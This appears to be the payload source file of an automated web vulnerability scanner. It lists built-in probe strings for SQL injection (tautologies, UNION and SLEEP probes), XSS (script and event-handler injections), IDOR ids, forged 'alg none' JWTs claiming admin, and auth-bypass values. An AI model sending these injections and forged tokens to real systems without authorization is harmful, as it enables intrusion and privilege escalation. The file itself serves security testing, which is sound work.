-- ===== src/Scanner/Payloads.antt =====
-- crates/scanner/src/payload_source.rs: the payloads of the built-in skills.
use aiautotest.Common.{List, [], ◌∷◌, Text, text, text_eq, if◌then◌else◌}

pub record PayloadTemplate : Type 0 where
  pub value : Text
  pub skill_name : Text
  pub description : Text

abbrev template : Text → Text → Text → PayloadTemplate
template skill value description = record {
  value = value;
  skill_name = skill;
  description = description;
}

unfoldable pub sqli_payloads : List PayloadTemplate
sqli_payloads =
    template (text "sqli") (text "' OR '1'='1") (text "classic tautology")
    ∷ template (text "sqli") (text "\" OR \"1\"=\"1") (text "double-quote tautology")
    ∷ template (text "sqli") (text "' OR 1=1--") (text "comment-terminated tautology")
    ∷ template (text "sqli") (text "' UNION SELECT NULL--") (text "union-based probing")
    ∷ template (text "sqli") (text "' AND 1=2--") (text "boolean-based probing")
    ∷ template (text "sqli") (text "' AND SLEEP(3)--") (text "time-based probing")
    ∷ []

unfoldable pub xss_payloads : List PayloadTemplate
xss_payloads =
    template (text "xss") (text "<script>alert(1)</script>") (text "script tag")
    ∷ template (text "xss") (text "<img src=x onerror=alert(1)>") (text "event handler")
    ∷ template (text "xss") (text "<svg/onload=alert(1)>") (text "svg onload")
    ∷ template (text "xss") (text "javascript:alert(1)") (text "javascript scheme")
    ∷ template (text "xss") (text "\"><script>alert(1)</script>") (text "attribute breakout")
    ∷ []

unfoldable pub idor_payloads : List PayloadTemplate
idor_payloads =
    template (text "idor") (text "0") (text "zero id")
    ∷ template (text "idor") (text "1") (text "first record")
    ∷ template (text "idor") (text "999999") (text "large id")
    ∷ template (text "idor") (text "-1") (text "negative id")
    ∷ template (text "idor") (text "0000001") (text "leading-zero id")
    ∷ []

unfoldable pub jwt_attack_payloads : List PayloadTemplate
jwt_attack_payloads =
    template (text "jwt_attack") (text "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.")
      (text "alg none, empty signature")
    ∷ template (text "jwt_attack")
        (text "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.c2ln")
        (text "guessable signature")
    ∷ template (text "jwt_attack") (text "eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW4ifQ.")
        (text "alg none, admin role")
    ∷ []

unfoldable pub auth_bypass_payloads : List PayloadTemplate
auth_bypass_payloads =
    template (text "auth_bypass") (text "admin") (text "common admin name")
    ∷ template (text "auth_bypass") (text "true") (text "boolean coercion")
    ∷ template (text "auth_bypass") (text "1") (text "numeric coercion")
    ∷ template (text "auth_bypass") (text "administrator") (text "full admin name")
    ∷ []

-- The built-in source.
unfoldable pub payloads_for : Text → List PayloadTemplate
unfolding sqli_payloads xss_payloads idor_payloads jwt_attack_payloads auth_bypass_payloads
payloads_for skill =
    if text_eq skill (text "sqli")
    then sqli_payloads
    else (if text_eq skill (text "xss")
        then xss_payloads
        else (if text_eq skill (text "idor")
            then idor_payloads
            else (if text_eq skill (text "jwt_attack")
                then jwt_attack_payloads
                else (if text_eq skill (text "auth_bypass") then auth_bypass_payloads else []))))

unfoldable pub supported_skills : List Text
supported_skills =
    text "sqli" ∷ text "xss" ∷ text "idor" ∷ text "jwt_attack" ∷ text "auth_bypass" ∷ []
